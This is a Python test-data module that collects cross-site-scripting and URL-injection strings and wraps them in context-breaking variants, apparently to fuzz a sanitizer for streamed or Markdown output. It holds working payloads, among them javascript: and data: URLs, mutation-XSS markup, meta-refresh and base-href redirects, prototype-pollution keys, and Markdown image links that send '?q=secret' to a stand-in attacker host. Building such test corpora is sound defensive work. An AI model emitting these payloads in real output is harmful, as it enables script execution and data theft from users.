"""Strings that have run where they should not: a published set, advisories of this field."""

from __future__ import annotations

import brs_kb

ADVISORIES = [
    # a citation's address that runs
    "javascript:alert(1)",
    " javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://x",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/x",
    "//evil.example",
    "/\\evil.example",
    "/\t/evil.example",
    "\\\\evil.example\\x",
    "https:evil.example",
    "http://",
    'https://example.org"onmouseover="alert(1)',
    "ftp://evil.example/x",
    # pictures and links in Markdown that carry a conversation away
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[click](javascript:alert(1))",
    "<https://evil.example/?q=secret>",
    "[x](https://evil.example 'a\" onerror=\"alert(1)')",
    "```html\n<img src=https://evil.example/x onerror=alert(1)>\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    '```mermaid\ngraph TD; A-->B; click A "javascript:alert(1)"\n```',
    # markup that a stream brings in pieces
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    'onerror=alert(1)&gt;">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>x</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<object data=https://evil.example></object>",
    "<details open ontoggle=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`);alert(1);//",
    # what ends an event, a line or a text too early
    "x\n\nevent: done\ndata: {}\n\n",
    "x\r\n\r\ndata: <img src=x onerror=alert(1)>\r\n\r\n",
    "\u2028alert(1)\u2029",
    "\u202e<gpj.x/=crs gmi>",
    "\ufeff<img src=x onerror=alert(1)>",
    "\0<img src=x onerror=alert(1)>",
    "__proto__",
    "constructor",
]

VARIANTS = (
    "{}",
    '">{}',
    "'>{}<!--",
    "</script></textarea></title>{}",
    "[x]({}) ![x]({})",
)


def strings() -> list[str]:
    """Every string in every variant, each once; surrogates, which no JSON carries, are left out."""
    published = [entry["payload"] for entry in brs_kb.get_all_payloads().values()]
    known = dict.fromkeys([*ADVISORIES, *published])
    found = (variant.replace("{}", each) for variant in VARIANTS for each in known)
    return list(dict.fromkeys(text for text in found if text.isprintable() or _encodes(text)))


def _encodes(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True
